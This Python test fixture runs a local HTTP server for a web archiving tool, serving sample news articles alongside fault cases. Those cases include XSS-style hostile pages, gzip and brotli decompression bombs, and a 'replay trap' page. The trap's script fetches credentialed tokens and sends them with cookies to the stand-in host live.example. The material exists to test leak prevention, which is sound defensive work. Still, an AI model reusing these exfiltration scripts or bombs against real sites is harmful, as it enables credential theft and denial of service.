"""A real HTTP server on loopback serving the pages the tests mirror.

Articles are built from the seed texts in ../shared/seeds, wrapped in the navigation, cookie
notice and footer boilerplate that real news sites carry. Other paths produce the faults the
fetcher must survive.
"""

from __future__ import annotations

import gzip
import html
import random
import re
import threading
import unicodedata
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
SEEDS_DIR = ROOT.parent / "shared" / "seeds"

NAV_TEXT = "Skip to main content | Home | News | Log in | Donate now"
COOKIE_TEXT = (
    "We use cookies to improve your experience on our website and to show you relevant "
    "advertising. By continuing you accept our cookie policy and terms of use."
)
FOOTER_TEXT = (
    "Related articles: View latest press releases from our offices around the world and "
    "subscribe to our newsletter for weekly updates on every campaign."
)


SITE_CSS = b"article { max-width: 40em; } h1 { font-size: 2em; }"
# A 1x1 PNG: enough to prove images are captured byte for byte.
PHOTO_PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c63f8cf"
    "c0f01f0005000201a2b1e3a50000000049454e44ae426082"
)


# 64 KiB of fixed pseudo-random bytes, gzipped (a few dozen bytes larger than 64 KiB).
INCOMPRESSIBLE = random.Random(19).randbytes(64 * 1024)
INCOMPRESSIBLE_GZ = gzip.compress(INCOMPRESSIBLE, mtime=0)


HOSTILE_PAGE = (
    b"<html><head><script>steal(document.cookie)</script></head><body onload='alert(1)'>"
    + b"<iframe src='https://evil.example/'></iframe>" * 20
    + b"<article><p>The journalist was sentenced to nine years in prison for articles she "
    b"published on her personal blog about land seizures in the province.</p>"
    b"<a href='javascript:alert(2)'>click</a><script>alert(3)</script>"
    b"<object data='x.swf'></object><embed src='y.swf'></article></body></html>"
)


# A page that tries every way out a replay must close: scripts, handlers, a meta refresh, CSS and
# image URLs on another site, a form and a javascript: link. live.example is never served: any
# request for it is a leak (tests/browser/test_replay.py records them).
REPLAY_TRAP_PAGE = b"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Quiet page</title>
<meta http-equiv="refresh" content="0;url=http://live.example/">
<link rel="stylesheet" href="/static/site.css">
<link rel="preload" as="image" href="http://live.example/preload.png">
<style>@import url("http://live.example/import.css");
body { background: url(http://live.example/bg.png); } h1 { color: rgb(0, 0, 128); }</style>
<script>
document.title = "script ran";
document.documentElement.setAttribute("data-ran", "yes");
console.log("archived script ran");
fetch("/api/tokens", {credentials: "include"})
  .then(function (r) { return r.text(); })
  .then(function (t) { new Image().src = "http://live.example/leak?" + encodeURIComponent(t + document.cookie); });
</script></head>
<body>
<article><h1 id="headline">The blogger's last post</h1>
<p id="marker" style="background-image: url('http://live.example/inline.png')">Nothing ran here.</p>
<img src="x" alt="broken" onerror="document.getElementById('marker').textContent = 'handler ran'; console.log('handler ran')">
<img src="http://live.example/x.png" alt="live image">
<img id="photo" src="/static/photo.png" srcset="http://live.example/photo-2x.png 2x" alt="A protest">
<form action="http://live.example/" method="post"><input name="q" value="secret"><button id="send">Send</button></form>
<p><a id="jslink" href="javascript:document.title='link ran'">run</a>
<a id="live" href="http://live.example/more">more</a></p>
</article></body></html>"""


def seed_names() -> list[str]:
    """The seed article names (file stems); fails loudly when ../shared/seeds is missing."""
    names = sorted(p.stem for p in SEEDS_DIR.glob("*.txt"))
    if not names:
        raise RuntimeError(f"no seed articles in {SEEDS_DIR}: ../shared must sit beside the repo")
    return names


def seed_text(name: str) -> str:
    """The raw text of one seed article."""
    return (SEEDS_DIR / f"{name}.txt").read_text(encoding="utf-8")


def article_html(name: str) -> bytes:
    """A realistic article page for a seed: its paragraphs inside page boilerplate."""
    lines = [line.strip() for line in seed_text(name).splitlines() if line.strip()]
    title = max(lines[:6], key=len)  # the headline is the longest of the opening lines
    body = "\n".join(f"<p>{html.escape(line)}</p>" for line in lines)
    page = f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>{html.escape(title)}</title>
<script>window.tracker = "track everyone";</script>
<style>body {{ font-family: serif; }}</style>
<link rel="stylesheet" href="/static/site.css"></head>
<body>
<header><nav><a href="/">{NAV_TEXT}</a></nav></header>
<div class="cookie-banner"><form><p>{COOKIE_TEXT}</p><button>Accept</button></form></div>
<main><article><h1>{html.escape(title)}</h1>
<figure><img src="/static/photo.png" alt="A protest" onerror="alert(1)"><img src="https://cdn.other.example/tracker.gif" alt=""><figcaption>Photo</figcaption></figure>
{body}
</article></main>
<aside><p>Share this article on social media with your friends and family today.</p></aside>
<footer><p>{FOOTER_TEXT}</p></footer>
<script>document.write("<p>injected by script, never a fragment of the page</p>");</script>
</body></html>"""
    return page.encode("utf-8")


GZIP = {"Content-Encoding": "gzip"}


def gzip_article_html(name: str) -> bytes:
    """The article served gzipped at /gzip/<name>.html: its stylesheet link redirects (301) to a
    gzip-served stylesheet."""
    return article_html(name).replace(b"/static/site.css", b"/static/moved.css")


def gzip_article_gz(name: str) -> bytes:
    """The bytes /gzip/<name>.html sends: the article gzipped (mtime 0, so always the same)."""
    return gzip.compress(gzip_article_html(name), mtime=0)


VIETNAMESE_TEXT = (
    "Chính quyền Việt Nam đã bắt giữ nhiều nhà hoạt động vì những bài viết trên mạng. "
    "Họ bị kết án nhiều năm tù giam vì tội tuyên truyền chống nhà nước. "
    "Người dân sợ hãi khi đăng thông tin trên Internet."
)
_VI_TONES = "\u0300\u0301\u0303\u0309\u0323"


def encode_windows_1258(text: str) -> bytes:
    """Encode Vietnamese as windows-1258 does: precomposed vowels plus combining tone marks."""
    out = bytearray()
    for cluster in re.findall(r".[\u0300-\u036f]*", unicodedata.normalize("NFD", text), re.S):
        base = unicodedata.normalize("NFC", "".join(c for c in cluster if c not in _VI_TONES))
        tones = "".join(c for c in cluster if c in _VI_TONES)
        out += (base + tones).encode("cp1258")
    return bytes(out)


def vietnamese_page(text: str = VIETNAMESE_TEXT) -> str:
    """A small Vietnamese article page (no charset declared anywhere)."""
    return (
        "<html><head><title>Tin tức</title></head><body><article>"
        f"<h1>Tự do ngôn luận</h1><p>{text}</p><p>{text}</p></article></body></html>"
    )


_COMPRESSED: dict[str, bytes] = {}


class _Handler(BaseHTTPRequestHandler):
    server_version = "SamizdatTestSite/1.0"

    def log_message(self, *args):  # keep test output clean
        pass

    def _send(self, status: int, body: bytes, content_type: str = "text/html; charset=utf-8", headers=None):
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        for key, value in (headers or {}).items():
            self.send_header(key, value)
        self.end_headers()
        self.wfile.write(body)

    def _redirect(self, status: int, location: str):
        # With a small body, as real servers send: the WARC keeps it.
        body = f'<a href="{location}">Moved</a>'.encode()
        self._send(status, body, headers={"Location": location})

    def do_GET(self):  # noqa: N802 - the stdlib's name
        self.server.hits.append(self.path)
        self.server.agents.append(self.headers.get("User-Agent", ""))
        path = self.path.split("?", 1)[0]
        if path.startswith("/articles/") and path.endswith(".html"):
            name = path[len("/articles/") : -len(".html")]
            if name in seed_names():
                return self._send(200, article_html(name))
        if path == "/vi/windows-1258.html":
            return self._send(200, encode_windows_1258(vietnamese_page()), "text/html")
        if path == "/vi/wrong-header.html":
            # Declared latin-1, actually UTF-8: a common misconfiguration.
            return self._send(200, vietnamese_page().encode(), "text/html; charset=iso-8859-1")
        if path == "/static/site.css":
            return self._send(200, SITE_CSS, "text/css")
        if path == "/static/photo.png":
            return self._send(200, PHOTO_PNG, "image/png")
        if path == "/doc.pdf":
            return self._send(200, b"%PDF-1.4\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n", "application/pdf")
        if path == "/blob.bin":
            return self._send(200, bytes(range(256)) * 64, "application/octet-stream")
        if path == "/hostile.html":
            return self._send(200, HOSTILE_PAGE)
        if path == "/replay/trap.html":
            return self._send(200, REPLAY_TRAP_PAGE)
        if path == "/empty.html":
            return self._send(200, b"<html><head><title>Nothing</title></head><body></body></html>")
        if path == "/plain.txt":
            return self._send(200, b"just text", "text/plain")
        if path == "/status/500":
            return self._send(500, b"<h1>Server error</h1>")
        if path == "/slow":
            time.sleep(3)
            return self._send(200, b"<p>too late</p>")
        if path == "/loop/a":
            return self._send(302, b"", headers={"Location": "/loop/b"})
        if path == "/loop/b":
            return self._send(302, b"", headers={"Location": "/loop/a"})
        if path.startswith("/hop/"):
            n = int(path.rsplit("/", 1)[1])
            return self._send(302, b"", headers={"Location": f"/hop/{n + 1}"})
        if path == "/redirect-to-article":
            return self._send(301, b"", headers={"Location": f"/articles/{seed_names()[0]}.html"})
        if path == "/redirect-to-private":
            return self._send(302, b"", headers={"Location": "http://10.255.255.1/secret"})
        if path == "/big":
            return self._send(200, b"<p>" + b"x" * (3 * 1024 * 1024) + b"</p>")
        if path in ("/brotli.html", "/brotli-bomb"):
            import brotli

            if path not in _COMPRESSED:  # compressing 50 MiB takes a while: do it once
                raw = article_html(seed_names()[0]) if path == "/brotli.html" else b"\0" * (50 * 2**20)
                _COMPRESSED[path] = brotli.compress(raw, quality=1)
            return self._send(200, _COMPRESSED[path], headers={"Content-Encoding": "br"})
        # /old/<name>.html: 301 to /moved/…, 302 to /gzip/…, a gzip-served article.
        if path.startswith("/old/"):
            return self._redirect(301, "/moved/" + path[len("/old/") :])
        if path.startswith("/moved/"):
            return self._redirect(302, "/gzip/" + path[len("/moved/") :])
        if path.startswith("/gzip/") and path.endswith(".html"):
            name = path[len("/gzip/") : -len(".html")]
            if name in seed_names():
                return self._send(200, gzip_article_gz(name), headers=GZIP)
        if path == "/static/moved.css":
            return self._redirect(301, "/static/site-gz.css")
        if path == "/static/site-gz.css":
            return self._send(200, gzip.compress(SITE_CSS, mtime=0), "text/css", GZIP)
        if path == "/chunked/gzip.html":
            # gzip under chunked transfer coding: the chunking is transport, the gzip is content.
            data = gzip_article_gz(seed_names()[0])
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Encoding", "gzip")
            self.send_header("Transfer-Encoding", "chunked")
            self.end_headers()
            for start in range(0, len(data), 1000):
                piece = data[start : start + 1000]
                self.wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece))
            self.wfile.write(b"0\r\n\r\n")
            return None
        if path == "/gzip-incompressible":
            # No Content-Length (the body ends when the connection closes): only counting the
            # bytes as they arrive can stop it.
            self.send_response(200)
            self.send_header("Content-Encoding", "gzip")
            self.end_headers()
            self.wfile.write(INCOMPRESSIBLE_GZ)
            return None
        if path == "/gzip-bomb":
            bomb = gzip.compress(b"\0" * (50 * 1024 * 1024), compresslevel=9)
            return self._send(200, bomb, headers={"Content-Encoding": "gzip"})
        return self._send(404, b"<h1>Not found</h1>")


class FixtureSite:
    """A ThreadingHTTPServer on 127.0.0.1 (a free port by default), serving in a background thread."""

    def __init__(self, port: int = 0):
        self.server = ThreadingHTTPServer(("127.0.0.1", port), _Handler)
        self.server.daemon_threads = True
        self.server.hits = []
        self.server.agents = []
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def url(self, path: str) -> str:
        """The absolute URL of ``path`` on this server."""
        return f"http://127.0.0.1:{self.port}{path}"

    @property
    def hits(self) -> list[str]:
        """Paths requested so far, in order."""
        return self.server.hits

    @property
    def agents(self) -> list[str]:
        """User-Agent headers received so far, in order."""
        return self.server.agents

    def close(self) -> None:
        """Stop serving."""
        self.server.shutdown()
        self.server.server_close()


if __name__ == "__main__":
    # `python -m tests.sites [PORT]` serves the fixture articles for trying Samizdat by hand.
    import sys

    site = FixtureSite(int(sys.argv[1]) if len(sys.argv) > 1 else 9000)
    for name in seed_names():
        print(site.url(f"/articles/{name}.html"))
    site.thread.join()
